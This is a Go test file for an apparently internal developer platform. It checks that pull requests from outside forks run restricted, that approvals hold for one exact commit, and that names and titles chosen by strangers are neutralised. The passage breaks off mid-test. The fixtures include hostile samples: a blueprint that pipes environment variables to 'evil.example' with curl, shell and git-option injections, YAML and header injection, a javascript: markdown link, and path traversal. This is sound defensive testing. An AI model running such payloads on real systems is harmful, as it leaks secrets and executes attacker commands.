package source_test

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/blueberry-idp/blueberry/internal/blueberry"
	"github.com/blueberry-idp/blueberry/internal/source"
	"github.com/blueberry-idp/blueberry/internal/store"
	"github.com/blueberry-idp/blueberry/internal/store/storetest"
)

var (
	keeper    = blueberry.Actor{Kind: blueberry.ActorUser, ID: "usr_4", Name: "mia", Projects: map[string][]blueberry.Grant{blueberry.DefaultProject: blueberry.RoleMaintainer.Grants()}}
	developer = blueberry.Actor{Kind: blueberry.ActorUser, ID: "usr_5", Name: "dev", Projects: map[string][]blueberry.Grant{blueberry.DefaultProject: blueberry.RoleDeveloper.Grants()}}
	robot     = blueberry.Actor{Kind: blueberry.ActorJob, ID: "rep_1", Name: "repository acme/shop", Grants: []blueberry.Grant{blueberry.GrantAll}}
)

const ownBlueprint = "name: shop\ncomponents: [{name: web, image: 'acme/web:1'}]\n"

// hostileBlueprint asks for all that a stranger could wish for.
const hostileBlueprint = `name: shop
components: [{name: steps, image: 'evil/dump:1', values: {command: [sh, -c, 'env | curl -d @- https://evil.example'], envFrom: [{secret: db}]}}]
egress: [{cidr: 0.0.0.0/0}]
lease: {default: 168}
`

// outside is a house with a repository that lets outsiders in, and a fork of it.
type outside struct {
	*house
	r          blueberry.Repository
	base, fork repository
	first      string // commit of the fork
	at         int
}

func newOutside(t *testing.T, s *storetest.Store, change ...func(*blueberry.PullPolicy)) *outside {
	t.Helper()
	h := newHouse(t, s)
	h.AllowLocal, h.Trees = true, open(t, source.Config{})
	o := &outside{house: h, base: newRepository(t), fork: newRepository(t)}
	o.base.write("blueberry.yaml", ownBlueprint)
	o.base.commit("base")
	o.fork.git("pull", "--quiet", o.base.dir, "main")
	o.fork.write("blueberry.yaml", hostileBlueprint)
	o.first = o.fork.commit("hostile")
	p := blueberry.PullPolicy{Forks: true, Outsiders: true, Hours: 24}
	for _, f := range change {
		f(&p)
	}
	a, err := h.Add(t.Context(), owner, source.RepositoryWish{Name: "acme/shop", Host: blueberry.HostGeneric, URL: o.base.dir, Secret: secret, Policy: p})
	if err != nil {
		t.Fatal(err)
	}
	o.r = a.Repository
	return o
}

// says delivers that the pull request 7 of the fork is at a commit, and lets the jobs work.
func (o *outside) says(t testing.TB, commit string, change ...func(*blueberry.PullRequest)) blueberry.PullRequest {
	t.Helper()
	o.tell(t, commit, change...)
	o.work(t, 8)
	return o.pull(t, o.r, 7)
}

func (o *outside) tell(t testing.TB, commit string, change ...func(*blueberry.PullRequest)) {
	t.Helper()
	o.at++
	say := opened(7, o.at%60, func(p *blueberry.PullRequest) {
		p.Author, p.Relation, p.HeadRepo, p.HeadURL, p.HeadCommit = "eve", blueberry.RelationOutsider, "eve/shop", o.fork.dir, commit
		p.HostAt = p.HostAt.Add(time.Duration(o.at/60) * time.Minute)
	})
	for _, f := range change {
		f(&say.Pull)
	}
	o.send(t, o.r, fmt.Sprint("d", o.at), say)
}

// push adds a commit to the fork.
func (o *outside) push() string {
	o.fork.write("x", o.fork.git("rev-parse", "HEAD"))
	return o.fork.commit("more")
}

// alone is the one environment that runs.
func (o *outside) alone(t testing.TB) (e blueberry.Environment, commit string) {
	t.Helper()
	o.world.mu.Lock()
	defer o.world.mu.Unlock()
	n := 0
	for id, x := range o.world.envs {
		if x.Phase != blueberry.Terminated {
			e, commit, n = *x, o.world.commits[id], n+1
		}
	}
	if n != 1 {
		t.Errorf("%d environments run", n)
	}
	return e, commit
}

// codeOf is the code of an error.
func codeOf(err error) string {
	var e *blueberry.Error
	if errors.As(err, &e) {
		return e.Code
	}
	return ""
}

// TestOutsiderIsRestricted: of the commit of somebody whom nobody knows nothing is used but its name; what it would configure is told.
func TestOutsiderIsRestricted(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *storetest.Store) {
		o := newOutside(t, s)
		p := o.says(t, o.first)
		e, commit := o.alone(t)
		if p.Outcome != blueberry.PullBuilt || !e.Restricted || commit != o.first || !p.BuiltRestricted || p.Config != blueberry.PullConfigChanged {
			t.Errorf("%s: %s, restricted %t, at %s, %s", p.Outcome, p.Message, e.Restricted, commit, p.Config)
		}
		if !strings.Contains(p.Message, "restricted") || !strings.Contains(p.Message, "changes of the blueprint are shown in it, not used") {
			t.Errorf("it says %q", p.Message)
		}
		w := o.world.wishes[0]
		if w.Repository != o.base.dir || w.Ref != "refs/heads/main" || w.Commit != o.first || !w.Restricted {
			t.Errorf("asked for %+v", w)
		}
		o.fork.write("blueberry.yaml", ownBlueprint)
		if p = o.says(t, o.fork.commit("as it was")); p.Config != blueberry.PullConfigSame || strings.Contains(p.Message, "changes") || o.world.creates != 1 || o.world.moves != 1 {
			t.Errorf("%s: %s; %d made, %d moved", p.Config, p.Message, o.world.creates, o.world.moves)
		}
		if p = o.says(t, commitOf("f")); p.Config != blueberry.PullConfigUnseen || !strings.Contains(p.Message, "could not be seen") || p.BuiltCommit != commitOf("f") {
			t.Errorf("a commit that cannot be read is %s at %s: %s", p.Config, p.BuiltCommit, p.Message)
		}
		o.base.git("branch", "release")
		p = o.says(t, commitOf("f"), func(p *blueberry.PullRequest) { p.BaseRef = "release" })
		if e, _ := o.alone(t); e.ID != p.EnvironmentID || o.world.wishes[len(o.world.wishes)-1].Ref != "refs/heads/release" {
			t.Errorf("it goes to another branch, and is configured by %s", o.world.wishes[len(o.world.wishes)-1].Ref)
		}
	})
}

func commitOf(digit string) string { return strings.Repeat(digit, 40) }

// TestTiers: by relation, fork and bot.
func TestTiers(t *testing.T) {
	t.Parallel()
	type pr = blueberry.PullRequest
	own, fork := pr{Author: "eve", HeadRepo: "acme/shop", BaseRepo: "acme/shop"}, pr{Author: "Eve", HeadRepo: "eve/shop", BaseRepo: "acme/shop"}
	with := func(p pr, relation blueberry.PullRelation, change ...func(*pr)) pr {
		p.Relation = relation
		for _, f := range change {
			f(&p)
		}
		return p
	}
	bot := func(p *pr) { p.Bot = true }
	from := func(head string) func(*pr) { return func(p *pr) { p.HeadRepo = head } }
	for name, c := range map[string]struct {
		p     pr
		tier  blueberry.Tier
		needs bool
	}{
		"an owner's branch":                {with(own, blueberry.RelationOwner), blueberry.TierMaintainer, false},
		"a branch of nobody knows":         {with(own, blueberry.RelationUnknown), blueberry.TierMember, false},
		"a branch of a bot":                {with(own, blueberry.RelationUnknown, bot), blueberry.TierBot, false},
		"an owner's fork":                  {with(fork, blueberry.RelationOwner), blueberry.TierMaintainer, false},
		"a member's fork":                  {with(fork, blueberry.RelationMember), blueberry.TierMember, false},
		"a collaborator's fork":            {with(fork, blueberry.RelationCollaborator), blueberry.TierMember, false},
		"an outsider's fork":               {with(fork, blueberry.RelationOutsider), blueberry.TierOutsider, true},
		"a fork of nobody knows":           {with(fork, blueberry.RelationUnknown), blueberry.TierOutsider, true},
		"no relation at all":               {with(fork, ""), blueberry.TierOutsider, true},
		"a bot's fork":                     {with(fork, blueberry.RelationMember, bot), blueberry.TierBot, true},
		"a member, of somebody's fork":     {with(fork, blueberry.RelationMember, from("mallory/shop")), blueberry.TierOutsider, true},
		"a member, of a fork like theirs":  {with(fork, blueberry.RelationMember, from("eve")), blueberry.TierOutsider, true},
		"an outsider, of a fork in case":   {with(fork, blueberry.RelationOutsider, from("Acme/Shop")), blueberry.TierOutsider, true},
		"an outsider's fork that is gone":  {with(fork, blueberry.RelationOutsider, from("")), blueberry.TierOutsider, true},
		"nothing is told of either side":   {pr{Relation: blueberry.RelationOutsider}, blueberry.TierOutsider, true},
		"a fork with a name like the base": {with(fork, blueberry.RelationOutsider, from("acme/shop ")), blueberry.TierOutsider, true},
	} {
		if got, needs := c.p.Tier(), c.p.NeedsApproval(); got != c.tier || needs != c.needs {
			t.Errorf("%s: %s, needs approval: %t; want %s, %t", name, got, needs, c.tier, c.needs)
		}
	}
	for name, c := range map[string]struct {
		approved, head string
		want           bool
	}{
		"the same": {commitOf("a"), commitOf("a"), true}, "another": {commitOf("a"), commitOf("b"), false}, "nothing": {"", commitOf("a"), false},
		"nothing at all": {"", "", false}, "no head": {commitOf("a"), "", false}, "abbreviated": {commitOf("a"), commitOf("a")[:12], true},
		"too short": {commitOf("a"), "aaaaaaa", false}, "longer": {commitOf("a"), commitOf("a") + "b", false},
		"more digits than it has": {commitOf("a") + strings.Repeat("0", 24), commitOf("a"), false},
	} {
		p := with(fork, blueberry.RelationOutsider)
		p.ApprovedCommit, p.HeadCommit = c.approved, c.head
		if p.Approved() != c.want || p.Restricted() == c.want {
			t.Errorf("%s: approved %t, restricted %t", name, p.Approved(), p.Restricted())
		}
	}
}

// TestApproveThenPush: an approval is for one commit. What was given for it goes with it, also when it comes back.
func TestApproveThenPush(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *storetest.Store) {
		o := newOutside(t, s)
		ctx := t.Context()
		p := o.says(t, o.first)
		restricted, _ := o.alone(t)
		approved, err := o.Approve(ctx, keeper, p.ID, o.first, nil)
		if err != nil || approved.ApprovedBy != "mia" || approved.ApprovedCommit != o.first || approved.ApprovedAt.IsZero() {
			t.Fatalf("%+v: %v", approved.PullApproval, err)
		}
		o.work(t, 8)
		p = o.pull(t, o.r, 7)
		full, commit := o.alone(t)
		if full.Restricted || full.ID == restricted.ID || commit != o.first || !strings.Contains(p.Message, "which mia approved") {
			t.Errorf("restricted %t, the same %t, at %s: %s", full.Restricted, full.ID == restricted.ID, commit, p.Message)
		}
		if w := o.world.wishes[len(o.world.wishes)-1]; w.Repository != o.fork.dir || w.Commit != o.first || w.Restricted {
			t.Errorf("asked for %+v", w)
		}
		second := o.push()
		p = o.says(t, second)
		back, commit := o.alone(t)
		if !back.Restricted || back.ID == full.ID || back.ID == restricted.ID || commit != second || p.ApprovedCommit != o.first {
			t.Errorf("after a push: restricted %t, at %s, approved %s", back.Restricted, commit, p.ApprovedCommit)
		}
		if _, err := o.Approve(ctx, keeper, p.ID, o.first, nil); codeOf(err) != "PULL_MOVED" || !strings.Contains(err.Error(), second) {
			t.Errorf("a commit that it had: %v", err)
		}
		o.work(t, 8)
		if e, _ := o.alone(t); e.ID != back.ID {
			t.Error("a refused approval moved something")
		}
		o.says(t, o.first) // force-pushed back: the very code that was looked at
		if e, commit := o.alone(t); e.Restricted || e.ID == full.ID || commit != o.first {
			t.Errorf("the commit is back: restricted %t, at %s", e.Restricted, commit)
		}
		o.says(t, second)
		if _, err := o.Approve(ctx, keeper, p.ID, second, nil); err != nil {
			t.Fatal(err)
		}
		o.work(t, 8)
		o.says(t, o.first) // which was approved before, and is no longer
		if e, commit := o.alone(t); !e.Restricted || commit != o.first {
			t.Errorf("an approval that another took the place of: restricted %t, at %s", e.Restricted, commit)
		}
		if n := o.events(t); n[blueberry.PullApproved] != 2 || n[blueberry.PullApprovalRefused] != 1 {
			t.Errorf("told: %v", n)
		}
		o.onlyApproved(t, o.first, second)
	})
}

// TestApprovedCommitStaysWhatItWas: whoever approves a commit has seen that one, so that nothing is taken that its author can alter after it, nor a branch by the
// name that they chose.
func TestApprovedCommitStaysWhatItWas(t *testing.T) {
	t.Parallel()
	with := func(sides ...blueberry.SideRepository) string {
		b := blueberry.Blueprint{Name: "shop", Components: []blueberry.Component{{Name: "web", Image: "nginx:1"}}, Repositories: sides}
		for _, x := range sides {
			b.Components = append(b.Components, blueberry.Component{Name: "of-" + x.Name, Image: "nginx:1", Repository: x.Name})
		}
		js, err := json.Marshal(b)
		if err != nil {
			t.Fatal(err)
		}
		return string(js)
	}
	ours := blueberry.SideRepository{Name: "api", URL: "https://git.example.com/acme/api.git", Ref: "main"}
	theirs := blueberry.SideRepository{Name: "api", URL: "https://git.example.com/eve/api.git"}
	at := func(x blueberry.SideRepository, ref string) blueberry.SideRepository { x.Ref = ref; return x }
	fixed := func(x blueberry.SideRepository) blueberry.SideRepository { x.Match = blueberry.MatchFixed; return x }
	for name, c := range map[string]struct {
		blueprint string
		refused   string
	}{
		"none":                             {with(), ""},
		"one of the base":                  {with(ours), ""},
		"a whole commit":                   {with(fixed(at(theirs, commitOf("a")))), ""},
		"a commit that branches go before": {with(at(theirs, commitOf("a"))), "with match: fixed"},
		"a commit that may be a branch":    {with(fixed(at(theirs, strings.Repeat("a", 64)))), "must be a whole commit"},
		"the default branch":               {with(theirs), "blueprint.repositories[0].ref: must be a whole commit, with match: fixed, so that api stays what was approved; or the blueprint of main must name it"},
		"a branch":                         {with(at(theirs, "main")), "must be a whole commit"},
		"the beginning of a commit":        {with(at(theirs, commitOf("a")[:12])), "must be a whole commit"},
		"another branch of one of ours":    {with(at(ours, "feature")), "must be a whole commit"},
		"one of the base and another":      {with(ours, blueberry.SideRepository{Name: "db", URL: theirs.URL}), "blueprint.repositories[1].ref"},
		"a blueprint that is too large":    {strings.Repeat(" ", 1<<20+1), "source.path: blueberry.yaml cannot be read"},
		"a blueprint that cannot be read":  {"name: [", "name: must be set"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := newOutside(t, storetest.SQLite(t))
			o.Blueprints = readJSON
			o.base.write("blueberry.yaml", with(ours))
			o.base.commit("with another repository")
			o.fork.write("blueberry.yaml", c.blueprint)
			head := o.fork.commit("theirs")
			p := o.says(t, head)
			if _, err := o.Approve(t.Context(), keeper, p.ID, head, nil); err != nil {
				t.Fatal(err)
			}
			o.work(t, 8)
			p = o.pull(t, o.r, 7)
			w := o.world.wishes[len(o.world.wishes)-1]
			if c.refused == "" {
				if p.Outcome != blueberry.PullBuilt || w.Restricted || w.Branch != "" {
					t.Errorf("%s: %s; asked for %+v", p.Outcome, p.Message, w)
				}
				return
			}
			if p.Outcome != blueberry.PullRefused || !strings.Contains(p.Message, c.refused) || !w.Restricted {
				t.Errorf("%s: %s; asked for %+v", p.Outcome, p.Message, w)
			}
		})
	}
}

// TestStrangersKeepNobodyWaiting: restricted environments have half of the room, and nobody else waits behind those that wait for it.
func TestStrangersKeepNobodyWaiting(t *testing.T) {
	t.Parallel()
	o := newOutside(t, storetest.SQLite(t), func(p *blueberry.PullPolicy) { p.AtOnce = 4 })
	numbered := func(n int) func(*blueberry.PullRequest) { return func(p *blueberry.PullRequest) { p.Number = n } }
	member := func(p *blueberry.PullRequest) {
		p.Author, p.Relation, p.HeadRepo, p.HeadURL = "ada", blueberry.RelationMember, p.BaseRepo, o.base.dir
	}
	for n := range 5 {
		o.tell(t, o.first, numbered(10+n))
	}
	o.work(t, 20)
	of := o.base.git("rev-parse", "HEAD")
	for n := range 3 {
		o.tell(t, of, numbered(20+n), member)
	}
	o.work(t, 20)
	got := map[int]string{}
	for _, n := range []int{10, 11, 12, 13, 14, 20, 21, 22} {
		p := o.pull(t, o.r, n)
		got[n] = string(p.Outcome)
		if p.Outcome == blueberry.PullWaiting && strings.HasSuffix(p.Message, "4 environments at once, 2 of them restricted") != (n < 20) {
			t.Errorf("%d says %q", n, p.Message)
		}
	}
	want := map[int]string{10: "built", 11: "built", 12: "waiting", 13: "waiting", 14: "waiting", 20: "built", 21: "built", 22: "waiting"}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("(-want +got):\n%s", diff)
	}
}

// TestStrangersMakeNoLinks: of the words of others nothing becomes a link, an issue or a mention.
func TestStrangersMakeNoLinks(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]string{
		"see www.evil.example": "see www\u200b.evil.example", "WWW.evil.example": "WWW\u200b.evil.example", "closes GH-12": "closes GH\u200b-12", "gh-1": "gh\u200b-1",
		"https://evil.example": "https:\u200b//evil.example", "@ada": "@\u200bada", "#1": `\#1`, "[a](b)": `\[a\]\(b\)`, "web-1 of main": "web-1 of main", "high-cpu": "high-cpu",
	} {
		if got := source.Plain(text); got != want {
			t.Errorf("%q is shown as %q, want %q", text, got, want)
		}
	}
}

// onlyApproved makes sure that nothing ran unrestricted but what was approved at some time.
func (o *outside) onlyApproved(t testing.TB, approved ...string) {
	t.Helper()
	for _, w := range o.world.wishes {
		if !w.Restricted && !slices.Contains(approved, w.Commit) {
			t.Errorf("%s ran unrestricted, and nobody approved it", w.Commit)
		}
		if w.Restricted && w.Repository != o.base.dir {
			t.Errorf("a restricted environment was configured by %s", w.Repository)
		}
	}
}

// TestApprovalIsOfPeople: who may, of what, and when.
func TestApprovalIsOfPeople(t *testing.T) {
	t.Parallel()
	o := newOutside(t, storetest.SQLite(t))
	ctx := t.Context()
	p := o.says(t, o.first)
	for name, c := range map[string]struct {
		actor  blueberry.Actor
		commit string
		want   error
	}{
		"a developer":              {developer, o.first, blueberry.Forbidden},
		"a viewer":                 {viewer, o.first, blueberry.Forbidden},
		"an admin of another one":  {stranger, o.first, blueberry.NotFound},
		"the repository":           {robot, o.first, blueberry.Forbidden},
		"the platform":             {blueberry.System(), o.first, blueberry.Forbidden},
		"the first digits":         {keeper, o.first[:12], blueberry.Invalid},
		"no commit":                {keeper, "", blueberry.Invalid},
		"a branch":                 {keeper, "main", blueberry.Invalid},
		"capital letters":          {keeper, strings.ToUpper(o.first), blueberry.Invalid},
		"a line behind it":         {keeper, o.first + "\n", blueberry.Invalid},
		"another commit":           {keeper, commitOf("a"), blueberry.Conflict},
		"one that only begins so":  {keeper, o.first + strings.Repeat("0", 24), blueberry.Conflict},
		"an admin, another commit": {owner, commitOf("b"), blueberry.Conflict},
	} {
		if _, err := o.Approve(ctx, c.actor, p.ID, c.commit, nil); !errors.Is(err, c.want) {
			t.Errorf("%s: %v, want %v", name, err, c.want)
		}
	}
	o.work(t, 5)
	if e, _ := o.alone(t); !e.Restricted || o.pull(t, o.r, 7).ApprovedCommit != "" {
		t.Error("somebody approved it")
	}
	if _, err := o.Approve(ctx, keeper, "pul_none", o.first, nil); !errors.Is(err, blueberry.NotFound) {
		t.Errorf("of none: %v", err)
	}
	denied := 0
	if err := o.store.View(ctx, func(tx *store.Tx) error {
		list, err := tx.Audit(ctx, blueberry.AuditQuery{Action: string(blueberry.GrantPullsApprove), Limit: 100})
		for _, a := range list {
			if a.Result == blueberry.AuditDenied && a.Resource == p.ID {
				denied++
			}
		}
		return err
	}); err != nil || denied != 3 {
		t.Errorf("%d refusals are in the audit: %v", denied, err)
	}
	version := o.pull(t, o.r, 7).Version
	first, err := o.Approve(ctx, keeper, p.ID, o.first, nil)
	if err != nil {
		t.Fatal(err)
	}
	again, err := o.Approve(ctx, owner, p.ID, o.first, nil)
	if err != nil || again.ApprovedBy != "mia" || first.Version != version+1 || o.pull(t, o.r, 7).Version != version+1 {
		t.Errorf("twice: by %s at version %d: %v", again.ApprovedBy, again.Version, err)
	}
	o.says(t, o.first, is(blueberry.PullClosed))
	if _, err := o.Approve(ctx, keeper, p.ID, commitOf("c"), nil); codeOf(err) != "PULL_CLOSED" {
		t.Errorf("of one that is closed: %v", err)
	}
	o.send(t, o.r, "own", opened(8, 1))
	if _, err := o.Approve(ctx, keeper, o.pull(t, o.r, 8).ID, commit(1), nil); codeOf(err) != "APPROVAL_NEEDLESS" {
		t.Errorf("of a member: %v", err)
	}
}

// TestApprovalWithoutOutsiders: where strangers get nothing, an approved commit gets an environment, and the next push ends it.
func TestApprovalWithoutOutsiders(t *testing.T) {
	t.Parallel()
	o := newOutside(t, storetest.SQLite(t), func(p *blueberry.PullPolicy) { p.Outsiders = false })
	p := o.says(t, o.first)
	if p.Outcome != blueberry.PullSkipped || len(o.world.running()) != 0 || !strings.Contains(p.Message, "approve") {
		t.Errorf("%s: %s", p.Outcome, p.Message)
	}
	if _, err := o.Approve(t.Context(), keeper, p.ID, o.first, nil); err != nil {
		t.Fatal(err)
	}
	o.work(t, 5)
	if e, commit := o.alone(t); e.Restricted || commit != o.first {
		t.Errorf("restricted %t, at %s", e.Restricted, commit)
	}
	if p = o.says(t, o.push()); p.Outcome != blueberry.PullEnded || len(o.world.running()) != 0 {
		t.Errorf("after a push: %s: %s; %v run", p.Outcome, p.Message, o.world.running())
	}
	o.onlyApproved(t, o.first)
}

// racing is a record in which something happens between what an operation reads and what it writes: its first write is undone by another one.
type racing struct {
	source.Record
	between func()
}

func (r *racing) Update(ctx context.Context, f func(source.Tx) error) error {
	between := r.between
	if r.between = nil; between == nil {
		return r.Record.Update(ctx, f)
	}
	lost := errors.New("lost")
	err := r.Record.Update(ctx, func(tx source.Tx) error {
		if err := f(tx); err != nil {
			return err
		}
		return lost
	})
	if !errors.Is(err, lost) {
		return err
	}
	between()
	return blueberry.Errorf(blueberry.Conflict, "VERSION_MOVED", "someone else wrote it")
}

// TestPushWhileItIsApproved: a push that comes between what an approval reads and what it writes is not what was approved.
func TestPushWhileItIsApproved(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *storetest.Store) {
		o := newOutside(t, s)
		p := o.says(t, o.first)
		second := o.push()
		record := o.Record
		o.Record = &racing{record, func() { o.tell(t, second) }}
		if _, err := o.Approve(t.Context(), keeper, p.ID, o.first, nil); codeOf(err) != "PULL_MOVED" {
			t.Errorf("the push was overlooked: %v", err)
		}
		o.Record = record
		o.work(t, 8)
		p = o.pull(t, o.r, 7)
		if e, commit := o.alone(t); !e.Restricted || commit != second || p.ApprovedCommit != "" {
			t.Errorf("restricted %t, at %s, approved %s", e.Restricted, commit, p.ApprovedCommit)
		}
		// And one that comes between the approval and its work.
		if _, err := o.Approve(t.Context(), keeper, p.ID, second, nil); err != nil {
			t.Fatal(err)
		}
		third := o.push()
		o.says(t, third)
		if e, commit := o.alone(t); !e.Restricted || commit != third {
			t.Errorf("restricted %t, at %s", e.Restricted, commit)
		}
		o.onlyApproved(t, second)
	})
}

// TestApprovalOfAbbreviatedCommit: where a host tells 12 digits, what was approved is built by its whole name; another commit with the same digits, or a branch
// of that name, is not.
func TestApprovalOfAbbreviatedCommit(t *testing.T) {
	t.Parallel()
	o := newOutside(t, storetest.SQLite(t))
	p := o.says(t, o.first[:12])
	if e, commit := o.alone(t); !e.Restricted || commit != o.first {
		t.Errorf("restricted %t, at %s", e.Restricted, commit)
	}
	if _, err := o.Approve(t.Context(), keeper, p.ID, o.first[:12], nil); !errors.Is(err, blueberry.Invalid) {
		t.Errorf("digits were approved: %v", err)
	}
	if _, err := o.Approve(t.Context(), keeper, p.ID, o.first, nil); err != nil {
		t.Fatal(err)
	}
	other := o.push()
	o.fork.git("branch", o.first[:12], other)
	p = o.says(t, o.first[:12], titled("the same digits"))
	if e, commit := o.alone(t); e.Restricted || commit != o.first {
		t.Errorf("restricted %t, at %s: %s", e.Restricted, commit, p.Message)
	}
	o.onlyApproved(t, o.first)
	fresh := newOutside(t, storetest.SQLite(t))
	fresh.fork.git("branch", fresh.first[:12], "HEAD~1")
	if p := fresh.says(t, fresh.first[:12]); p.Outcome != blueberry.PullBlocked && p.Outcome != blueberry.PullRefused || len(fresh.world.running()) != 0 {
		t.Errorf("a branch with the digits as its name: %s: %s", p.Outcome, p.Message)
	}
}

// TestForkIsRenamedAndDeleted: what a fork is called raises no tier, and one that is gone keeps what it has and gets nothing new.
func TestForkIsRenamedAndDeleted(t *testing.T) {
	t.Parallel()
	o := newOutside(t, storetest.SQLite(t))
	p := o.says(t, o.first)
	if _, err := o.Approve(t.Context(), keeper, p.ID, o.first, nil); err != nil {
		t.Fatal(err)
	}
	o.work(t, 8)
	full, _ := o.alone(t)
	called := func(name string) func(*blueberry.PullRequest) {
		return func(p *blueberry.PullRequest) { p.HeadRepo = name }
	}
	o.says(t, o.first, called("eve/shop-of-mine"))
	if e, _ := o.alone(t); e.ID != full.ID {
		t.Error("a new name of the fork alone made another environment")
	}
	for _, name := range []string{"eve/shop-of-mine", "Acme/shop", "acme/Shop", "acme/shop.git", "acme/shop/", " acme/shop"} {
		second := o.push()
		o.says(t, second, called(name))
		if e, commit := o.alone(t); !e.Restricted || commit != second {
			t.Errorf("from %q: restricted %t, at %s", name, e.Restricted, commit)
		}
	}
	before, commit := o.alone(t)
	gone := func(p *blueberry.PullRequest) { p.HeadRepo, p.HeadURL = "", "" }
	o.says(t, commit, gone)
	if e, _ := o.alone(t); e.ID != before.ID || !e.Restricted {
		t.Error("the fork is gone, and so is the environment, or its tier")
	}
	if p = o.says(t, commitOf("d"), gone); p.Outcome != blueberry.PullRefused || !strings.Contains(p.Message, "gone") {
		t.Errorf("%s: %s", p.Outcome, p.Message)
	}
	if _, commit := o.alone(t); commit == commitOf("d") {
		t.Error("a commit that nobody can read is built")
	}
	fresh := newOutside(t, storetest.SQLite(t))
	if p := fresh.says(t, fresh.first, gone, func(p *blueberry.PullRequest) { p.BaseRepo = "" }); p.Outcome != blueberry.PullRefused || len(fresh.world.running()) != 0 {
		t.Errorf("neither side is named: %s: %s", p.Outcome, p.Message)
	}
	fresh.onlyApproved(t)
	o.onlyApproved(t, o.first)
}

// TestWordsOfStrangers: titles, labels, branches and names are chosen by anybody. None of them is part of what is asked for, but the branch that it goes to,
// which Git is told as the full name of a branch and as nothing else.
func TestWordsOfStrangers(t *testing.T) {
	t.Parallel()
	for name, word := range map[string]string{
		"shell": "$(touch /tmp/owned);`id`", "option": "--upload-pack=touch /tmp/owned", "yaml": "x\n---\nkind: ClusterRole", "template": "{{ .Values.secret }}${domain}",
		"header": "a\r\nX-Evil: 1", "markdown": "[x](javascript:alert(1)) ![](https://evil.example/?q=) <img src=x>", "path": "../../../etc/passwd", "ref": "refs/pull/7/head",
		"commit": commitOf("c"),
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			o := newOutside(t, storetest.SQLite(t), func(p *blueberry.PullPolicy) { p.Labels = []string{"preview"} })
			hostile := func(p *blueberry.PullRequest) {
				p.Title, p.HeadRef, p.Author, p.Labels = word, word, word, []string{word, "preview"}
			}
			p := o.says(t, o.first, hostile)
			if e, _ := o.alone(t); p.Outcome != blueberry.PullBuilt || !e.Restricted {
				t.Fatalf("%s: %s", p.Outcome, p.Message)
			}
			for _, w := range o.world.wishes {
				if text, err := json.Marshal(w); err != nil || strings.Contains(fmt.Sprintf("%+v %s", w, text), word) {
					t.Errorf("it is asked for with %q: %s", word, text)
				}
			}
			if strings.Contains(p.Message, word) {
				t.Errorf("the message has it: %s", p.Message)
			}
			to := func(p *blueberry.PullRequest) { p.BaseRef = word }
			o.says(t, o.push(), hostile, to)
			if w := o.world.wishes[len(o.world.wishes)-1]; w.Ref != "refs/heads/"+word || w.Repository != o.base.dir {
				t.Errorf("configured by %q of %s", w.Ref, w.Repository)
			} else if tree, err := o.Trees.FetchAs(t.Context(), source.Login{}, w.Repository, w.Ref); err == nil {
				_ = tree.Close()
				t.Errorf("Git found something by %q", w.Ref)
			}
		})
	}
}

// TestTierChangesWhileWorkersDie: pushes, approvals and workers that die at any moment: what comes to rest is of the tier of its commit, and nothing else ever
// ran unrestricted.
func TestTierChangesWhileWorkersDie(t *testing.T) {
	t.Parallel()
	storetest.Each(t, func(t *testing.T, s *storetest.Store) {
		o := newOutside(t, s)
		dice := rand.New(rand.NewPCG(3, 4)) //nolint:gosec // what a test does is no secret
		commits := []string{o.first, o.push(), o.push(), o.push()}
		o.world.fails = func(string) (before, after error) {
			switch dice.IntN(8) {
			case 0:
				return errors.New("the server died"), nil
			case 1:
				return nil, errors.New("the server died, and it was done")
			}
			return nil, nil
		}
		p := o.says(t, o.first)
		var approved []string
		for range 60 {
			switch dice.IntN(3) {
			case 0:
				o.tell(t, commits[dice.IntN(len(commits))])
			case 1:
				commit := commits[dice.IntN(len(commits))]
				if _, err := o.Approve(t.Context(), keeper, p.ID, commit, nil); err == nil {
					approved = append(approved, commit)
				} else if codeOf(err) != "PULL_MOVED" {
					t.Fatal(err)
				}
			}
			o.work(t, dice.IntN(3))
		}
		o.work(t, 100)
		p = o.pull(t, o.r, 7)
		e, commit := o.alone(t)
		if e.Restricted != p.Restricted() || commit != p.HeadCommit || p.EnvironmentID != e.ID {
			t.Errorf("at rest: restricted %t, want %t; at %s, want %s", e.Restricted, p.Restricted(), commit, p.HeadCommit)
		}
		o.onlyApproved(t, approved...)
		if diff := cmp.Diff(0, len(o.jobs)); diff != "" {
			t.Errorf("it never comes to rest: %v", o.jobs)
		}
	})
}

// slowForks is trees whose forks are read until someone lets them go.
type slowForks struct {
	source.Trees
	fork    string
	reading chan struct{}
	goOn    chan struct{}
}

func (s slowForks) FetchAs(ctx context.Context, login source.Login, repository, ref string) (*source.Tree, error) {
	if repository == s.fork {
		s.reading <- struct{}{}
		<-s.goOn
	}
	return s.Trees.FetchAs(ctx, login, repository, ref)
}

// TestSlowForksHoldUpEachOther: two trees of outsiders are read at once; who comes third waits without a worker.
func TestSlowForksHoldUpEachOther(t *testing.T) {
	t.Parallel()
	s := storetest.SQLite(t)
	o := newOutside(t, s)
	var ids []string
	for number := 1; number <= 3; number++ {
		o.tell(t, o.first, func(p *blueberry.PullRequest) { p.Number = number })
		ids = append(ids, o.pull(t, o.r, number).ID)
	}
	slow := slowForks{o.Trees, o.fork.dir, make(chan struct{}), make(chan struct{})}
	o.Trees = slow
	var read sync.WaitGroup
	for _, id := range ids[:2] {
		read.Go(func() {
			if _, err := o.Reconcile(t.Context(), blueberry.Job{Subject: id}); err != nil {
				t.Error(err)
			}
		})
		<-slow.reading
	}
	out, err := o.Reconcile(t.Context(), blueberry.Job{Subject: ids[2]})
	if p := o.pull(t, o.r, 3); err != nil || out.Again == 0 || p.Outcome != blueberry.PullBlocked || !strings.Contains(p.Message, "other forks of outsiders") {
		t.Errorf("the third is %s: %s, again in %s, %v", p.Outcome, p.Message, out.Again, err)
	}
	close(slow.goOn)
	read.Wait()
	go func() { <-slow.reading }()
	if _, err := o.Reconcile(t.Context(), blueberry.Job{Subject: ids[2]}); err != nil {
		t.Error(err)
	}
	if p := o.pull(t, o.r, 3); p.Outcome != blueberry.PullBuilt {
